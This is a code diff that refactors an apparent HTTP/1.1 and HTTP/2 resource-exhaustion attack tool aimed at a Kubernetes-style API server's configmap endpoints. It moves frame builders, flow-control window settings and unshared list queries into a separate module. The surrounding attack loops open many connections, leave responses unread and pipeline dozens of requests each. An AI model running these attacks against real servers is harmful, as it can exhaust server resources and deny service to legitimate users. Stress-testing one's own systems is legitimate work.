@@ -19,6 +19,16 @@ import {
   send,
   type Target,
 } from "./connections.ts";
+import {
+  END_HEADERS,
+  END_STREAM,
+  get,
+  HTTP2,
+  LISTS,
+  listWithout,
+  NO_WINDOWS,
+  WIDE_OPEN,
+} from "./http2_requests.ts";
 import { Windows } from "./windows.ts";
 
 /** An attack: `count` is how many connections, requests or frames it is worth. */
@@ -58,32 +68,11 @@ async function with_(
   }
 }
 
-const HTTP2 = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 };
-const END_HEADERS = 4;
-const END_STREAM = 1;
-
-function get(target: Target, stream: number, path: string, flags = END_HEADERS | END_STREAM) {
-  return http2Frame(HTTP2.headers, flags, stream, headerBlock(getHeaders(target, path)));
-}
-
-/** Windows of nothing: whatever is asked for has to wait. */
-const NO_WINDOWS = http2Frame(HTTP2.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
-/** Windows as wide as they can be. */
-const WIDE_OPEN = Buffer.concat([
-  PREFACE,
-  http2Frame(HTTP2.settings, 0, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
-  http2Frame(HTTP2.window, 0, 0, Buffer.from([0x7f, 0, 0, 0])),
-]);
 const FRAME_BYTES = 16 * 1024;
 const MAPS = "/api/v1/namespaces/default/configmaps";
 /** A little below what the server takes of one request. */
 const BODY_BYTES = 2_900_000;
 const LARGE_BODY = Buffer.alloc(BODY_BYTES, "{");
-
-/** A list that hardly anybody else asks for: its bytes are not shared. */
-function listWithout(i: number): string {
-  return `/api/v1/configmaps?fieldSelector=metadata.name!=bulk-${i}`;
-}
 
 /** Does something with so many connections, and lets go of them when it is done with all. */
 async function together(
@@ -196,7 +185,7 @@ const http1: Record<string, Attack> = {
       with_(connectTls(target, "http/1.1"), async (socket) => {
         leaveUnread(socket);
         for (let j = 0; j < 20; j++) {
-          const request = `GET ${listWithout((20 * i + j) % 200)} HTTP/1.1\r\nHost: x\r\n\r\n`;
+          const request = `GET ${listWithout((20 * i + j) % LISTS)} HTTP/1.1\r\nHost: x\r\n\r\n`;
           if (!await send(socket, Buffer.from(request))) return;
         }
         await new Promise((next) => setTimeout(next, LET_GO_MS));
@@ -284,7 +273,9 @@ const http2: Record<string, Attack> = {
         leaveUnread(socket);
         await send(socket, WIDE_OPEN);
         for (let j = 0; j < 75; j++) {
-          if (!await send(socket, get(target, 2 * j + 1, listWithout((75 * i + j) % 200)))) return;
+          if (!await send(socket, get(target, 2 * j + 1, listWithout((75 * i + j) % LISTS)))) {
+            return;
+          }
         }
         await new Promise((next) => setTimeout(next, LET_GO_MS));
       })),
